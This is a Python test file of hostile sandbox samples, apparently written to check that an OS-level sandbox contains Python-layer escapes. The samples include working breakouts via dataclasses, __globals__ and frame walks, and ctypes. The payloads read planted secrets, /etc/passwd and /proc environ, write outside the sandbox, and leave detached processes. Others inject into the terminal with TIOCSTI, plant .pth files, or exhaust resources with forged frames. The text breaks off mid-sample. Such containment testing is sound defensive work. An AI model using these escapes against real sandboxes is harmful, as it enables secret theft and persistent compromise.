"""Hostile modules that reach the real ``os`` module through Python-level tricks and then try to do
damage the OS layer must contain: read planted secrets, write outside the sandbox, connect to the
parent's loopback listener, leave a detached process behind, forge results for other environments.

Each sample gets the probe arguments (see :mod:`.containment`): ``canary`` (a path in the parent's
temporary directory that must stay absent), ``secrets`` (paths of files holding planted secrets,
plus ``/etc/passwd``), ``port`` (a loopback listener of the parent), ``marker`` (a token a process
left behind would carry). The payload (``_damage``) tries every kind of damage with whatever it
reached and returns what it got, so a secret that leaks shows in the tool output.

Expected outcome :data:`.samples.OS_CONTAINED`: any stage may stop it or it may "succeed"; what
counts is that every probe stays clean. Where the trick is also stopped by the Python layer (static
check, restricted builtins) that is a bonus, not the claim.
"""

from __future__ import annotations

from envfactory_assets.security.hostile.samples import (
    CANARY,
    MARKER,
    OS_CONTAINED,
    PORT,
    SAMPLES,
    SECRETS,
    HostileSample,
    environment,
)

# The damage any sample attempts once it holds a function that imports modules (``get``).
_DAMAGE = """

def _damage(get, canary, secrets, port, marker):
    report = {}
    opener = get("builtins").open
    for path in [*secrets, "/etc/passwd"]:
        try:
            with opener(path, "r", errors="replace") as handle:
                report[path] = handle.read(4096)
        except Exception as exc:
            report[path] = "refused: " + type(exc).__name__
    try:
        with opener(canary, "w") as handle:
            handle.write("escaped")
        report["wrote"] = canary
    except Exception as exc:
        report["wrote"] = "refused: " + type(exc).__name__
    try:
        sock = get("socket").create_connection(("127.0.0.1", port), timeout=1)
        sock.sendall(repr(report).encode())
        sock.close()
        report["connected"] = True
    except Exception as exc:
        report["connected"] = "refused: " + type(exc).__name__
    try:
        os_module = get("os")
        report["system"] = os_module.system("id > " + canary + ".id")
    except Exception as exc:
        report["system"] = "refused: " + type(exc).__name__
    try:
        os_module = get("os")
        sys_module = get("sys")
        # Returns only once the sleeper is in a session of its own (or its parent died): a process group kill
        # of the worker right after the reply, on a loaded machine, must not be what stops it.
        ready, told = os_module.pipe()
        try:
            if os_module.fork() == 0:
                os_module.setsid()
                if os_module.fork() == 0:
                    os_module.execv(sys_module.executable,
                                    [sys_module.executable, "-c", "import time; time.sleep(60)", marker])
                os_module.write(told, b"x")
                os_module.kill(os_module.getpid(), 9)
            os_module.close(told)
            told = None
            os_module.read(ready, 1)
        finally:
            for fd in (ready, told):
                if fd is not None:
                    os_module.close(fd)
        report["detached"] = True
    except Exception as exc:
        report["detached"] = "refused: " + type(exc).__name__
    return report
"""

_PROBE_ARGS = {"canary": CANARY, "secrets": SECRETS, "port": PORT, "marker": MARKER}


def _os_sample(
    name: str,
    category: str,
    description: str,
    body: str,
    *,
    imports: str = "",
    stage: str = "call",
    contract: str | None = None,
    probe_sensitive: bool = True,
) -> HostileSample:
    source = environment(
        _DAMAGE + "\n\n" + body.strip(), imports=imports, **({"contract": contract} if contract is not None else {})
    )
    return HostileSample(
        name,
        category,
        description,
        OS_CONTAINED,
        source,
        stage=stage,
        arguments=dict(_PROBE_ARGS) if stage in ("call",) else {},
        probe_sensitive=probe_sensitive,
    )


OS_SAMPLES: list[HostileSample] = [
    _os_sample(
        "dataclass_field_exec",
        "code generation",
        "renames a dataclasses.Field so that dataclasses' generated __eq__ exec's attacker text with the "
        "real builtins (the escape of the Python layer reported against this project)",
        '''
def attack(state, canary, secrets, port, marker):
    @dataclasses.dataclass
    class Base:
        a: int = 0
    dataclasses.fields(Base)[0].name = "a,exec(self.p))#"

    @dataclasses.dataclass(init=False, repr=False)
    class Child(Base):
        """x"""
    child = Child()
    child.run = _damage
    child.args = (canary, secrets, port, marker)
    child.p = "import builtins as b; self.out = self.run(b.__import__, *self.args)"
    child == Child()
    return {"report": getattr(child, "out", None)}
''',
        imports="import dataclasses",
    ),
    _os_sample(
        "dataclass_field_exec_at_load",
        "code generation",
        "the same dataclasses trick at module level, so it runs while the module loads, before any tool",
        '''
def attack(state):
    return {}


@dataclasses.dataclass
class _Base:
    a: int = 0


dataclasses.fields(_Base)[0].name = "a,exec(self.p))#"


@dataclasses.dataclass(init=False, repr=False)
class _Child(_Base):
    """x"""


_child = _Child()
_child.run = _damage
_child.args = (__CANARY__, __SECRETS__, __PORT__, __MARKER__)
_child.p = "import builtins as b; self.out = self.run(b.__import__, *self.args)"
_child == _Child()
''',
        imports="import dataclasses",
        stage="module",
    ),
    _os_sample(
        "namedtuple_globals",
        "code generation",
        "collections.namedtuple is a Python function: its __globals__ hold the real sys, whose modules hold os",
        """
def attack(state, canary, secrets, port, marker):
    real_sys = collections.namedtuple.__globals__["_sys"]
    return {"report": _damage(lambda n: real_sys.modules.get(n) or __import__(n), canary, secrets, port, marker)}
""",
        imports="import collections",
    ),
    _os_sample(
        "enum_metaclass_globals",
        "code generation",
        "enum's metaclass __call__ is a Python function whose module imports sys: walk to sys.modules",
        """
def attack(state, canary, secrets, port, marker):
    real_sys = type(enum.Enum).__call__.__globals__["sys"]
    return {"report": _damage(lambda n: real_sys.modules.get(n) or __import__(n), canary, secrets, port, marker)}
""",
        imports="import enum",
    ),
    _os_sample(
        "formatter_get_field_walk",
        "format-string walk",
        "string.Formatter().get_field resolves '0.__globals__' to the object itself, not its text",
        """
def attack(state, canary, secrets, port, marker):
    field, _ = string.Formatter().get_field("0.__globals__", (string.capwords,), {})
    real_builtins = field["__builtins__"]
    return {"report": _damage(real_builtins["__import__"], canary, secrets, port, marker)}
""",
        imports="import string",
    ),
    _os_sample(
        "format_globals_text",
        "format-string walk",
        "renders '{0.__globals__}' of a library function to find what is reachable (leaks text only)",
        """
def attack(state, canary, secrets, port, marker):
    text = "{0.__globals__}".format(json.dumps)
    return {"text": text[:2000], "report": _damage(__import__, canary, secrets, port, marker)}
""",
        imports="import json",
    ),
    _os_sample(
        "traceback_frame_walk_to_engine",
        "frame walk",
        "catches its own exception and walks __traceback__.tb_frame.f_back to the worker engine's globals",
        """
def attack(state, canary, secrets, port, marker):
    try:
        raise ValueError("walk")
    except ValueError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None and "os" not in frame.f_globals:
        frame = frame.f_back
    engine_globals = frame.f_globals if frame is not None else {}
    real_os = engine_globals.get("os")
    get = (lambda n: real_os if n == "os" else __import__(n))
    return {"report": _damage(get, canary, secrets, port, marker)}
""",
    ),
    _os_sample(
        "patch_allowed_module_class",
        "cross-environment tampering",
        "patches json.JSONEncoder and the engine's output encoder so that later calls of other "
        "environments in the same interpreter would return forged results",
        """
def attack(state, canary, secrets, port, marker):
    json.JSONEncoder.encode = lambda self, value: '{"forged": true}'
    try:
        raise ValueError("walk")
    except ValueError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None and "_encode_json" not in frame.f_globals:
        frame = frame.f_back
    if frame is not None:
        frame.f_globals["_encode_json"] = lambda value: b'{"echo": "forged", "pings": 1}'
    return {"report": _damage(__import__, canary, secrets, port, marker)}
""",
        imports="import json",
    ),
    _os_sample(
        "gc_finalizer_fires_later",
        "delayed payload",
        "hides the payload in __del__ of a reference cycle, so it fires at a later garbage collection",
        """
class _Later:
    def __init__(self, args):
        self.me = self
        self.args = args

    def __del__(self):
        _damage(__import__, *self.args)


def attack(state, canary, secrets, port, marker):
    _Later((canary, secrets, port, marker))
    gc.collect()
    return {"planted": True}
""",
        imports="import gc",
    ),
    _os_sample(
        "weakref_finalize_at_exit",
        "delayed payload",
        "registers the payload with weakref.finalize so it runs when the worker exits (workers are "
        "SIGKILLed when closed, so it never runs: not part of the negative control)",
        """
class _Anchor:
    pass


_ANCHORS = []


def attack(state, canary, secrets, port, marker):
    anchor = _Anchor()
    _ANCHORS.append(anchor)
    weakref.finalize(anchor, _damage, __import__, canary, secrets, port, marker)
    return {"planted": True}
""",
        imports="import weakref",
        probe_sensitive=False,
    ),
    _os_sample(
        "id_and_hash_nondeterminism",
        "non-determinism",
        "returns id() and str hashes (they change per process), and tries the damage payload",
        """
def attack(state, canary, secrets, port, marker):
    return {"id": id(object()), "hash": hash("seed"), "report": _damage(__import__, canary, secrets, port, marker)}
""",
    ),
    _os_sample(
        "forged_frames_on_protocol_fd",
        "protocol forgery",
        "writes forged success frames straight into every open descriptor, the protocol's included "
        "(the parent kills the worker at the first frame that does not answer its request, before any "
        "other damage: not part of the negative control)",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    body = json.dumps({"id": 1, "ok": True, "result": {"ok": True, "output": {"echo": "forged"}}}).encode()
    frame = len(body).to_bytes(4, "big") + body
    for fd in range(3, 64):
        try:
            os_module.write(fd, frame)
        except OSError:
            pass
    return {"report": _damage(__import__, canary, secrets, port, marker)}
""",
        imports="import json",
        probe_sensitive=False,
    ),
    _os_sample(
        "detached_grandchild",
        "detached children",
        "double-forks and setsid()s a sleeper that outlives the worker, then returns normally",
        """
def attack(state, canary, secrets, port, marker):
    return {"report": _damage(__import__, canary, secrets, port, marker)}
""",
    ),
    _os_sample(
        "read_parent_environment",
        "file access",
        "reads /proc/<parent>/environ and /proc/1/environ, where the pipeline's secrets live",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    found = {}
    for pid in {os_module.getppid(), 1}:
        try:
            with open("/proc/%d/environ" % pid, "rb") as handle:
                found[str(pid)] = handle.read().decode("latin-1")
        except Exception as exc:
            found[str(pid)] = "refused: " + type(exc).__name__
    return {"environ": found, "report": _damage(__import__, canary, secrets, port, marker)}
""",
    ),
    _os_sample(
        "ctypes_libc_system",
        "native code",
        "calls libc's system() through ctypes, below anything Python could check",
        """
def attack(state, canary, secrets, port, marker):
    libc = ctypes.CDLL(None)
    status = libc.system(("id > " + canary).encode())
    return {"status": status, "report": _damage(__import__, canary, secrets, port, marker)}
""",
        imports="import ctypes",
    ),
    _os_sample(
        "walk_filesystem_for_secrets",
        "file access",
        "walks every readable directory (home, the store, /etc, the repository) collecting file heads",
        """
def attack(state, canary, secrets, port, marker):
    report = _damage(__import__, canary, secrets, port, marker)
    os_module = __import__("os")
    seen = {}
    roots = [os_module.path.dirname(p) for p in secrets] + ["/root", "/home", "/etc", "/work", "/"]
    for root in roots:
        try:
            for directory, _, files in os_module.walk(root):
                for name in files[:20]:
                    path = os_module.path.join(directory, name)
                    try:
                        with open(path, "rb") as handle:
                            seen[path] = handle.read(256).decode("latin-1")
                    except Exception:
                        pass
                if len(seen) > 2000:
                    break
        except Exception:
            pass
    return {"files": seen, "report": report}
""",
    ),
    _os_sample(
        "symlink_out_of_tmp",
        "file access",
        "makes symlinks in its /tmp pointing at the canary and the secrets, then writes and reads through them",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    got = {}
    for index, target in enumerate([canary, *secrets]):
        link = "/tmp/link%d" % index
        try:
            os_module.symlink(target, link)
            if target == canary:  # write only where the probe looks; read the secrets
                with open(link, "w") as handle:
                    handle.write("escaped")
            else:
                with open(link) as handle:
                    got[target] = handle.read(4096)
        except Exception as exc:
            got[target] = "refused: " + type(exc).__name__
    return {"through_links": got, "report": _damage(__import__, canary, secrets, port, marker)}
""",
    ),
    _os_sample(
        "signal_other_processes",
        "process tampering",
        "sends signal 0 to every pid it can see and SIGSTOP to the ones it does not own",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    visible = []
    for pid in range(2, 4096):
        try:
            os_module.kill(pid, 0)
            visible.append(pid)
        except Exception:
            pass
    return {"visible": visible[:50], "report": _damage(__import__, canary, secrets, port, marker)}
""",
    ),
]


# Attacks on the host's kernel state and on the parent's memory. They are not in the negative control:
# unconfined, as root, they would really change the host (kernel settings, files in /). What they achieve
# is reported as ``<marker>:achieved:<what>``, which the probes look for in every output.
OS_SAMPLES += [
    _os_sample(
        "write_host_sysctl",
        "kernel settings",
        "writes kernel/core_pattern back with its own value: a sandbox user that is host root may write any "
        "host-wide sysctl, and a core_pattern pipe helper then runs as host root",
        """
def attack(state, canary, secrets, port, marker):
    got = {}
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory"):
        try:
            with open(path) as handle:
                value = handle.read()
            with open(path, "w") as handle:
                handle.write(value)
            got[path] = marker + ":achieved:sysctl"
        except Exception as exc:
            got[path] = "refused: " + type(exc).__name__
    return {"sysctl": got}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "write_init_memory",
        "process tampering",
        "opens /proc/1/mem for writing: the namespace's init process has no seccomp filter, so code written "
        "into it would run unfiltered and outlive the worker",
        """
def attack(state, canary, secrets, port, marker):
    try:
        with open("/proc/1/mem", "r+b"):
            return {"init": marker + ":achieved:init-memory"}
    except Exception as exc:
        return {"init": "refused: " + type(exc).__name__}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "fill_writable_mounts",
        "memory exhaustion",
        "writes 1 MiB files into /, /dev, /dev/shm and /tmp until refused: an uncapped tmpfs is host memory",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    block = b"x" * (1 << 20)
    written = {}
    for folder in ("/", "/dev", "/dev/shm", "/tmp"):
        total = 0
        for index in range(100):
            try:
                with open(os_module.path.join(folder, "fill%d" % index), "wb") as handle:
                    handle.write(block)
                total += 1
            except Exception:
                break
        written[folder] = total
    outside_tmp = sum(n for folder, n in written.items() if folder != "/tmp")
    if outside_tmp or written["/tmp"] > 64:
        return {"written_mib": written, "verdict": marker + ":achieved:uncapped-write"}
    return {"written_mib": written}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "declare_huge_frame",
        "protocol forgery",
        "declares a 900 MiB response frame on every descriptor and streams bytes into it, to make the "
        "parent allocate far more than the worker's own memory limit",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    header = (900 << 20).to_bytes(4, "big")
    block = b" " * (1 << 20)
    for fd in range(3, 16):
        try:
            os_module.write(fd, header)
            for _ in range(64):
                os_module.write(fd, block)
        except OSError:
            pass
    return {"sent": True}
""",
        probe_sensitive=False,
    ),
]

# Routes around the Python layer that lead to the same damage by another door: paths through /proc, the
# parent's environment variables, the code the parent itself imports, the terminal, a raw clone system call.
OS_SAMPLES += [
    _os_sample(
        "proc_root_of_visible_processes",
        "file access",
        "writes the canary and reads the secrets through /proc/<pid>/root and /proc/<pid>/cwd of every process "
        "it can see: a process of the host's mount namespace would open the host's whole file system",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    got = {}
    try:
        visible = [p for p in os_module.listdir("/proc") if p.isdigit()]
    except Exception as exc:
        visible, got["/proc"] = [], "refused: " + type(exc).__name__
    for pid in ["self", "1", str(os_module.getppid())] + visible:
        for link in ("root", "cwd"):
            base = "/proc/%s/%s" % (pid, link)
            try:
                with open(base + canary, "w") as handle:
                    handle.write("escaped")
                got[base + " write"] = "wrote"
            except Exception as exc:
                got[base + " write"] = "refused: " + type(exc).__name__
            for path in secrets:
                try:
                    with open(base + path) as handle:
                        got[base + path] = handle.read(4096)
                except Exception as exc:
                    got[base + path] = "refused: " + type(exc).__name__
    return {"through_proc": got, "report": _damage(__import__, canary, secrets, port, marker)}
""",
    ),
    _os_sample(
        "read_environment_variables",
        "file access",
        "reads its own os.environ and /proc/<pid>/environ of every visible process, looking for the secret "
        "the probes planted in the parent's environment (API keys live there)",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    found = {"own": dict(os_module.environ)}
    try:
        visible = [p for p in os_module.listdir("/proc") if p.isdigit()]
    except Exception as exc:
        visible, found["/proc"] = [], "refused: " + type(exc).__name__
    for pid in ["self", "1"] + visible:
        try:
            with open("/proc/%s/environ" % pid, "rb") as handle:
                found[pid] = handle.read().decode("latin-1")
        except Exception as exc:
            found[pid] = "refused: " + type(exc).__name__
    return {"environ": found}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "write_into_code_paths",
        "persistent code",
        "creates a .pth file in every sys.path folder (the virtualenv, the package, the standard library): "
        "the parent's next Python start would run it outside any sandbox",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    sys_module = __import__("sys")
    folders = [p for p in sys_module.path if p] + [os_module.path.dirname(os_module.__file__)]
    got = {}
    scratch = os_module.stat("/tmp").st_dev
    for folder in folders:
        try:
            private = os_module.stat(folder).st_dev == scratch
        except Exception:
            private = False
        # the worker's private tmpfs is its own (its cwd, and the folders above a checkout under /tmp, which
        # the sandbox makes there to bind the package on): writes to it vanish with the worker
        if private:
            continue
        path = os_module.path.join(folder, "zz_envfactory_probe.pth")
        try:
            with open(path, "x") as handle:
                handle.write("import os\\n")
            os_module.unlink(path)  # found out: remove it at once, report it
            got[folder] = marker + ":achieved:code-write"
        except Exception as exc:
            got[folder] = "refused: " + type(exc).__name__
    return {"code_paths": got}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "tiocsti_terminal_injection",
        "terminal injection",
        "pushes a character into the input queue of its standard descriptors and of /dev/tty with TIOCSTI: "
        "on the user's terminal it would be typed into the shell that started the pipeline",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    fcntl_module = __import__("fcntl")
    termios_module = __import__("termios")
    got = {}
    descriptors = [0, 1, 2]
    try:
        descriptors.append(os_module.open("/dev/tty", os_module.O_RDWR))
    except Exception as exc:
        got["/dev/tty"] = "refused: " + type(exc).__name__
    for fd in descriptors:
        try:
            fcntl_module.ioctl(fd, termios_module.TIOCSTI, b"#")
            got[str(fd)] = marker + ":achieved:tty-injection"
        except Exception as exc:
            got[str(fd)] = "refused: " + type(exc).__name__
    return {"tty": got}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "raw_clone_system_call",
        "process/exec",
        "starts a process with the clone system call through ctypes (no os.fork, no fork syscall), in its "
        "own session so that killing the worker's process group misses it, and leaves it sleeping",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    time_module = __import__("time")
    number = {"x86_64": 56, "aarch64": 220}.get(os_module.uname().machine)
    if number is None:
        return {"clone": "unknown architecture"}
    libc = ctypes.PyDLL(None, use_errno=True)  # keeps the GIL across the call, so the child can run Python
    libc.syscall.restype = ctypes.c_long
    ready, told = os_module.pipe()
    pid = libc.syscall(ctypes.c_long(number), ctypes.c_ulong(17), ctypes.c_ulong(0), ctypes.c_ulong(0),
                       ctypes.c_ulong(0), ctypes.c_ulong(0))  # flags = SIGCHLD: a plain process
    if pid == 0:
        try:
            os_module.setsid()
        except Exception:
            pass
        os_module.write(told, b"x")
        while True:
            time_module.sleep(1)
    errno = ctypes.get_errno()
    os_module.close(told)
    if pid > 0:  # the reply waits until the child left the worker's session (a loaded machine may not run it
        os_module.read(ready, 1)  # before the parent kills the worker's process group) or died
    os_module.close(ready)
    return {"clone": pid, "errno": errno}
""",
        imports="import ctypes",
    ),
]

# Resources no rlimit counts, and limits the code may try to lift. Each raises when the system refuses it
# (so a refusal is a failed call), reports ``<marker>:achieved:<what>`` when it got what it wanted, and
# otherwise runs until something kills its worker: the worker's control group (memory, including shared,
# tmpfs and kernel memory), the parent's per-call CPU check, the check for threads left after a call, or
# the call's deadline. :func:`.containment.run_resource_sample` measures what each cost the host.
RESOURCE_SAMPLES: list[HostileSample] = [
    _os_sample(
        "shm_800_mib",
        "resource limits",
        "takes 800 MiB of System V shared memory (shmget + shmat) and touches every page: memory RLIMIT_AS "
        "does not count, which outlives the process in its IPC namespace",
        """
def attack(state, canary, secrets, port, marker):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    size = 800 << 20
    segment = libc.shmget(0, ctypes.c_size_t(size), 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    if segment < 0:
        raise OSError(ctypes.get_errno(), "shmget refused")
    address = libc.shmat(segment, None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat refused")
    ctypes.memset(address, 1, size)
    return {"shm": marker + ":achieved:shm-800-mib"}
""",
        imports="import ctypes",
        probe_sensitive=False,
    ),
    _os_sample(
        "memfd_750_mib",
        "resource limits",
        "writes 750 MiB into an anonymous memfd_create file: pages of no mount and no address space",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    fd = os_module.memfd_create("hold")
    block = b"m" * (1 << 20)
    for _ in range(750):
        os_module.write(fd, block)
    return {"memfd": marker + ":achieved:memfd-750-mib"}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "tmpfs_inode_flood",
        "resource limits",
        "creates 600,000 empty files in its 64 MiB /tmp: no bytes, so the size cap never strikes, but each "
        "inode and dentry is about 1 KiB of kernel memory",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    os_module.mkdir("/tmp/flood")
    for index in range(600000):
        os_module.close(os_module.open("/tmp/flood/%d" % index, os_module.O_CREAT | os_module.O_WRONLY, 0o600))
    return {"files": marker + ":achieved:inode-flood"}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "cpu_threads_left_running",
        "resource limits",
        "ignores SIGXCPU, starts two threads that hash forever and returns at once: CPU burnt after the call, "
        "which no per-call budget sees",
        """
def attack(state, canary, secrets, port, marker):
    signal_module = __import__("signal")
    threading_module = __import__("threading")
    hashlib_module = __import__("hashlib")
    signal_module.signal(signal_module.SIGXCPU, signal_module.SIG_IGN)

    def spin():
        block = b"h" * (1 << 20)
        while True:
            hashlib_module.sha256(block).digest()

    for _ in range(2):
        threading_module.Thread(target=spin, daemon=True).start()
    return {"threads": "started"}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "timer_runs_code_after_return",
        "resource limits",
        "ignores SIGXCPU, sets a timer whose signal handler hashes forever and returns at once: no thread is left, "
        "the handler runs in the worker's own loop while it waits for the next request",
        """
def attack(state, canary, secrets, port, marker):
    signal_module = __import__("signal")
    hashlib_module = __import__("hashlib")
    signal_module.signal(signal_module.SIGXCPU, signal_module.SIG_IGN)

    def spin(signum, frame):
        block = b"h" * (1 << 20)
        while True:
            hashlib_module.sha256(block).digest()

    signal_module.signal(signal_module.SIGALRM, spin)
    signal_module.setitimer(signal_module.ITIMER_REAL, 0.05)
    return {"timer": "armed"}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "raise_rlimit_cpu",
        "resource limits",
        "ignores SIGXCPU, raises its own RLIMIT_CPU to unlimited (or as far as the hard limit lets it) and "
        "hashes on three threads inside the call",
        """
def attack(state, canary, secrets, port, marker):
    signal_module = __import__("signal")
    resource_module = __import__("resource")
    threading_module = __import__("threading")
    hashlib_module = __import__("hashlib")
    signal_module.signal(signal_module.SIGXCPU, signal_module.SIG_IGN)
    unlimited = resource_module.RLIM_INFINITY
    try:
        resource_module.setrlimit(resource_module.RLIMIT_CPU, (unlimited, unlimited))
        raised = marker + ":achieved:rlimit-cpu-unlimited"
    except (ValueError, OSError):
        hard = resource_module.getrlimit(resource_module.RLIMIT_CPU)[1]
        resource_module.setrlimit(resource_module.RLIMIT_CPU, (hard, hard))
        raised = "soft raised to the hard limit %s" % hard
    print(raised, flush=True)  # stderr reaches the parent even when the call never returns

    def spin():
        block = b"h" * (1 << 20)
        while True:
            hashlib_module.sha256(block).digest()

    for _ in range(2):
        threading_module.Thread(target=spin, daemon=True).start()
    spin()
    return {"rlimit": raised}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "reply_amplification",
        "resource limits",
        "returns 2,000,000 empty lists in 6 MB of JSON: under the byte cap, but more than 300 MiB of objects "
        "once decoded, so a reader bounded only by bytes would take the parent's memory",
        """
def attack(state, canary, secrets, port, marker):
    inner = [[]] * 1000
    return {"items": [inner] * 2000}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "reply_50_mib_valid",
        "resource limits",
        "returns a valid 50 MiB reply within every bound (130,000 strings of 200 quotes, which the worker's "
        "serializer escapes: an estimated 60 MiB decoded): the parent must decode it without keeping its other "
        "threads from the interpreter for 100 ms (one orjson call over it takes 60 to 100 ms)",
        """
def attack(state, canary, secrets, port, marker):
    return {"lines": ['"' * 200] * 130000}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "frame_declaring_1_gib",
        "resource limits",
        "writes a frame header declaring a 1 GiB reply straight to the protocol pipe: a reader that allocates "
        "what the header says before checking it against the cap would take the parent's memory",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    struct_module = __import__("struct")
    frame = struct_module.pack(">I", 1 << 30) + b"[" * 65536
    written = []
    for fd in range(3, 64):
        try:
            if os_module.fstat(fd).st_mode & 0o170000 != 0o010000:  # a pipe
                continue
            os_module.write(fd, frame)
            written.append(fd)
            break
        except OSError:
            continue
    return {"written": written}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "forged_deep_frame",
        "resource limits",
        "writes its own frame of 100,000 nested lists straight to the protocol pipe, past the serializer that "
        "would refuse it: a recursive reader would raise RecursionError in the parent",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    struct_module = __import__("struct")
    payload = b'{"id": 0, "ok": true, "result": ' + b"[" * 100000 + b"]" * 100000 + b"}"
    frame = struct_module.pack(">I", len(payload)) + payload
    written = []
    for fd in range(3, 64):
        try:
            if os_module.fstat(fd).st_mode & 0o170000 != 0o010000:  # a pipe
                continue
            os_module.write(fd, frame)
            written.append(fd)
            break
        except OSError:
            continue
    return {"written": written}
""",
        probe_sensitive=False,
    ),
]

# Writes a forged reply frame straight to the protocol pipe (the first pipe among the descriptors), past the
# worker's own serializer: the parent must bound what it reads and decodes whatever the bytes are.
_FORGE_FRAME = """

def _forge(payload):
    os_module = __import__("os")
    frame = len(payload).to_bytes(4, "big") + payload
    for fd in range(3, 64):
        try:
            if os_module.fstat(fd).st_mode & 0o170000 != 0o010000:  # a pipe
                continue
            view = memoryview(frame)
            while view:
                view = view[os_module.write(fd, view):]
            return fd
        except OSError:
            continue
    return None
"""

# Descriptors, rlimits, the protocol's own pipes and stderr, process creation past the seccomp filter.
RESOURCE_SAMPLES += [
    _os_sample(
        "fd_flood_eventfd_timerfd_epoll",
        "resource limits",
        "opens eventfds, timerfds armed to fire every nanosecond, epolls and inotify instances until refused: "
        "kernel objects no memory rlimit counts",
        """
def attack(state, canary, secrets, port, marker):
    select_module = __import__("select")
    libc = ctypes.CDLL(None, use_errno=True)
    every_nanosecond = (ctypes.c_long * 4)(0, 1, 0, 1)
    opened = 0
    for _ in range(100000):
        fd = libc.eventfd(0, 0)
        timer = libc.timerfd_create(1, 0)  # CLOCK_MONOTONIC
        if timer >= 0:
            libc.timerfd_settime(timer, 0, every_nanosecond, None)
        select_module.epoll()  # raises once the descriptors run out
        opened += (fd >= 0) + (timer >= 0) + 1 + (libc.inotify_init() >= 0)
    return {"opened": marker + ":achieved:fd-flood-%d" % opened}
""",
        imports="import ctypes",
        probe_sensitive=False,
    ),
    _os_sample(
        "raise_rlimit_nofile",
        "resource limits",
        "raises its open-files limit to the hard limit, then past it to 2^20",
        """
def attack(state, canary, secrets, port, marker):
    resource_module = __import__("resource")
    _, hard = resource_module.getrlimit(resource_module.RLIMIT_NOFILE)
    resource_module.setrlimit(resource_module.RLIMIT_NOFILE, (hard, hard))
    resource_module.setrlimit(resource_module.RLIMIT_NOFILE, (1 << 20, 1 << 20))
    return {"nofile": marker + ":achieved:rlimit-nofile-raised-from-%s" % hard}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "stderr_firehose",
        "resource limits",
        "writes 1 MiB blocks to stderr without end: the parent drains stderr and must keep only a bounded tail",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    block = b"e" * (1 << 20)
    while True:
        os_module.write(2, block)
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "reply_ucs4_string",
        "resource limits",
        "forges a 60 MiB reply of one ASCII string ending in an escaped astral character: CPython stores the "
        "decoded string in 4 bytes a character (240 MiB), past a decoded-size estimate of 1 byte a byte",
        _FORGE_FRAME
        + r"""
def attack(state, canary, secrets, port, marker):
    payload = b'{"id": 0, "ok": true, "result": "' + b"a" * (60 << 20) + b'\\ud83d\\ude00"}'
    return {"fd": _forge(payload)}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "reply_huge_integer",
        "resource limits",
        "forges a reply holding a 1,000,000-digit integer, which a decoder of arbitrary-precision integers "
        "would spend quadratic time on",
        _FORGE_FRAME
        + """
def attack(state, canary, secrets, port, marker):
    payload = b'{"id": 0, "ok": true, "result": {"ok": true, "output": ' + b"7" * 1000000 + b"}}"
    return {"fd": _forge(payload)}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "reply_invalid_utf8",
        "resource limits",
        "forges a reply whose string holds bytes that are not UTF-8 (an overlong NUL, 0xff)",
        _FORGE_FRAME
        + r"""
def attack(state, canary, secrets, port, marker):
    payload = b'{"id": 0, "ok": true, "result": {"ok": true, "output": "\xff\xfe\xc0\x80"}}'
    return {"fd": _forge(payload)}
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "close_protocol_fds_exit_0",
        "resource limits",
        "closes every descriptor, the protocol's pipes included, and exits with status 0 in the middle of a call",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    os_module.closerange(0, 64)
    os_module._exit(0)
""",
        probe_sensitive=False,
    ),
    _os_sample(
        "clone3_vfork_posix_spawn",
        "resource limits",
        "makes a process by the doors fork() does not use: raw clone3, raw vfork, clone with CLONE_VFORK, "
        "and os.posix_spawn",
        """
def attack(state, canary, secrets, port, marker):
    os_module = __import__("os")
    sys_module = __import__("sys")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    numbers = {"x86_64": {"clone3": 435, "vfork": 58, "clone": 56}, "aarch64": {"clone3": 435, "clone": 220}}
    number = numbers[os_module.uname().machine]
    got = {}
    clone_args = (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)  # exit_signal = SIGCHLD
    attempts = [("clone3", (ctypes.c_long(number["clone3"]), clone_args, ctypes.c_size_t(88)))]
    if "vfork" in number:
        attempts.append(("vfork", (ctypes.c_long(number["vfork"]),)))
